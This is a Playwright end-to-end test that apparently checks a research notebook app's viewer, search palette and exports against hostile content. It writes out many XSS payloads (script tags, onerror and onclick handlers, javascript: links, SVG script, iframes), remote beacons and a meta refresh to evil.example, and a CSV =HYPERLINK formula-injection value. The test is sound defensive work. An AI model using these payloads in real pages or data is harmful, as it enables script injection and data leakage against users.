/**
 * Hostile content, everywhere it shows: a page built of every trick (scripts, inline handlers,
 * javascript: links, iframes, SVG with script, CSS and images from far away, a meta refresh, a
 * base href), notes with raw HTML and formulas, entity names, tags, figures and a summary with
 * markup. Then every view, the search palette, and every export format opened as a reader would:
 * no script runs, no dialog opens, no request leaves the app's origin, nothing breaks out of its
 * markup. The content is put in through the browser-mode API (the import and annotation UIs have
 * journeys of their own); what is tested is how it is shown and exported.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/dossier';
import { LibraryPage } from './pages/library';

const EVIL = 'http://evil.example';
/** Every way this test's markup tries to run: each sets window.__pwned (or leaves a request to evil.example). */
const HOSTILE_PAGE = `<!doctype html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<base href="${EVIL}/">
<title>Raids &lt;img src=x onerror=window.__pwned=1&gt; in Kochi | Hostile Times</title>
<meta property="og:site_name" content="Hostile &quot;&gt;&lt;script&gt;window.__pwned=2&lt;/script&gt; Times">
<link rel="stylesheet" href="${EVIL}/style.css"><link rel="prefetch" href="${EVIL}/prefetch">
<style>body { background: url(${EVIL}/bg.png) } @import url(${EVIL}/import.css);</style>
<script>window.__pwned = 3; fetch('${EVIL}/beacon')</script>
</head>
<body onload="window.__pwned=4">
<article>
<h1>Raids in Kochi</h1>
<p>Police said 41 people were arrested in P-HUNT 23.1 and the text &lt;script&gt;window.__pwned=5&lt;/script&gt; is only words here.</p>
<p onclick="window.__pwned=6">Officers searched 596 places <a href="javascript:window.__pwned=7">read more</a> <img src="${EVIL}/pixel.gif" onerror="window.__pwned=8"> across the state.</p>
<svg><script>window.__pwned=9</script><a xlink:href="javascript:window.__pwned=10"><text>svg link</text></a></svg>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.__pwned=11</script>"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">
<p>The cyber wing registered 268 cases, an officer said, in a statement of &quot;zero tolerance&quot; for abuse material online.</p>
<form action="${EVIL}/form"><input name="q"><button formaction="javascript:window.__pwned=12">Go</button></form>
</article>
</body></html>`;

const MARKUP_NOTE = `<script>window.__pwned=20</script><img src=x onerror="window.__pwned=21"> <a href="javascript:window.__pwned=22">x</a> ![](${EVIL}/md.png) [link](javascript:window.__pwned=23)`;

async function noHarm(page: Page, where: string) {
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), `a script ran in ${where}`).toBeUndefined();
  // Nothing from the content became live markup in the app.
  expect(await page.locator('main iframe, main object, main embed, main script, main img[onerror], main [onclick], main a[href^="javascript:"]').count(), `live markup in ${where}`).toBe(0);
}

test('hostile pages, notes and names run nothing and reach nothing, in every view, the palette and every export', async ({ dossier }) => {
  test.skip(dossier.host !== 'browser', 'the content is put in over the browser-mode API');
  const page = dossier.page;
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const call = async (channel: string, input: unknown) => {
    const r = await page.request.post(`${dossier.baseUrl}/api/${channel}`, { data: input, headers: { 'content-type': 'application/json', 'x-dossier-token': dossier.token! } });
    const body = await r.json();
    expect(body.ok, `${channel}: ${JSON.stringify(body.error)}`).toBe(true);
    return body.value;
  };

  const file = join(dossier.home, 'hostile.html');
  await writeFile(file, HOSTILE_PAGE);
  const [outcome] = (await call('import:paths', { paths: [file] })).outcomes;
  expect(outcome.status).toBe('imported');
  const source = await call('sources:get', { id: outcome.sourceId });
  const start = source.text.indexOf('41 people');
  expect(start).toBeGreaterThan(-1);
  const person = await call('entities:create', {
    type: 'person',
    name: '<img src=x onerror=window.__pwned=30>',
    aliases: ['"><script>window.__pwned=31</script>'],
    description: '<iframe src="http://evil.example/desc"></iframe>',
    start: null,
    end: null,
    parentId: null,
  });
  const operation = await call('entities:create', {
    type: 'operation',
    name: 'P-HUNT <b onmouseover="window.__pwned=32">23.1</b>',
    aliases: [],
    description: '',
    start: null,
    end: null,
    parentId: null,
  });
  await call('annotations:create', {
    sourceId: source.id,
    start,
    end: start + 9,
    kind: 'figure',
    note: MARKUP_NOTE,
    tags: ['<b>tag</b>', 'javascript:alert(1)'],
    entityIds: [person.id, operation.id],
    figure: { metric: 'arrests <i>', value: 41, entityId: operation.id },
    speakerId: person.id,
  });
  const quote = source.text.indexOf('268 cases');
  await call('annotations:create', {
    sourceId: source.id,
    start: quote,
    end: quote + 9,
    kind: 'quote',
    note: '=HYPERLINK("http://evil.example/csv","click")',
    tags: [],
    entityIds: [operation.id],
    figure: { metric: 'cases', value: 268, entityId: operation.id },
    speakerId: person.id,
  });
  await call('factsheet:summary', { entityId: null, summary: `<iframe src="${EVIL}/summary"></iframe><script>window.__pwned=33</script>` });
  await page.reload();

  // Every view.
  const library = new LibraryPage(page);
  await library.open(/Raids/);
  await expect(library.reader).toContainText('Police said 41 people were arrested');
  await expect(library.reader).toContainText('<script>window.__pwned=5</script> is only words here');
  await noHarm(page, 'the reader');
  await dossier.screenshot('hostile-reader');
  const views = page.getByRole('navigation', { name: 'Views' });
  for (const view of ['Annotations', 'Entities', 'Fact sheet', 'Search', 'Library']) {
    await views.getByRole('button', { name: view }).click();
    await expect(page.locator('main')).toBeVisible();
    if (view === 'Entities') await page.getByRole('navigation', { name: 'Entities' }).getByText('<img src=x onerror=window.__pwned=30>').first().click();
    // The note is rendered as Markdown, as in the side panel: a line that opens with raw HTML is an HTML block, dropped whole.
    if (view === 'Annotations') {
      await page.getByRole('combobox', { name: 'Tag' }).selectOption('<b>tag</b>');
      const row = page.getByRole('list', { name: 'All annotations' }).getByRole('listitem').filter({ hasText: '41 people' });
      await expect(row).toContainText('arrests <i> = 41');
      await expect(row).not.toContainText('window.__pwned=20');
    }
    await noHarm(page, `the ${view} view`);
    await dossier.screenshot(`hostile-${view.toLowerCase().replace(' ', '-')}`);
  }

  // The palette, searching for the markup itself.
  await page.keyboard.press('Control+K');
  const palette = page.getByRole('dialog', { name: 'Search' });
  for (const query of ['onerror', '<script', 'javascript:']) {
    await palette.getByRole('searchbox', { name: 'Search the notebook' }).fill(query);
    await expect(palette.getByRole('option').first()).toBeVisible();
    await noHarm(page, `the palette for ${query}`);
    expect(await palette.locator('img, iframe, script, [onerror], [onmouseover]').count()).toBe(0);
  }
  await dossier.screenshot('hostile-palette');
  await page.keyboard.press('Escape');

  // Every export format, read back the way a reader meets it.
  const out = (name: string) => join(dossier.home, name);
  await call('annotations:export', { format: 'csv', path: out('a.csv') });
  const csv = await readFile(out('a.csv'), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/csv"",""click"")"`);
  await call('annotations:export', { format: 'w3c', path: out('a.jsonld') });
  expect(JSON.parse(await readFile(out('a.jsonld'), 'utf8')).first ?? JSON.parse(await readFile(out('a.jsonld'), 'utf8'))).toBeTruthy();
  for (const format of ['md', 'json', 'docx', 'html', 'pdf']) {
    const r = await page.request.post(`${dossier.baseUrl}/api/factsheet:export`, {
      data: { format, path: out(`f.${format}`) },
      headers: { 'content-type': 'application/json', 'x-dossier-token': dossier.token! },
    });
    const body = await r.json();
    // PDF needs a browser engine to print with; where there is none it is refused, never half-made.
    if (format === 'pdf' && !body.ok) expect(body.error.code).toBe('UNSUPPORTED');
    else expect(body.ok, `${format}: ${JSON.stringify(body.error)}`).toBe(true);
  }
  const markdown = await readFile(out('f.md'), 'utf8');
  // Markup and links only escaped (a backslash before each "<" and "]("): a Markdown renderer shows them as text.
  expect(markdown).not.toMatch(/(^|[^\\])(<script|<iframe|<img |\]\(javascript:)/im);
  expect(markdown).toContain('\\<iframe src="http://evil.example/summary">\\</iframe>\\<script>');
  const html = await readFile(out('f.html'), 'utf8');
  expect(html).not.toMatch(/<script|<iframe|<img [^>]*onerror|href="javascript:/i);
  const opened = await page.context().newPage();
  const far: string[] = [];
  opened.on('request', (r) => {
    if (!r.url().startsWith('file:')) far.push(r.url());
  });
  opened.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await opened.goto(pathToFileURL(out('f.html')).href);
  await expect(opened.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(opened.locator('body')).toContainText('<script>window.__pwned=33</script>');
  expect(await opened.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(far).toEqual([]);
  await opened.screenshot({ path: `e2e/screenshots/${dossier.host}-hostile-factsheet-html.png`, fullPage: true });
  await opened.close();

  expect(dialogs).toEqual([]);
  const origin = new URL(dossier.baseUrl!).origin;
  expect(dossier.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'))).toEqual([]);
});
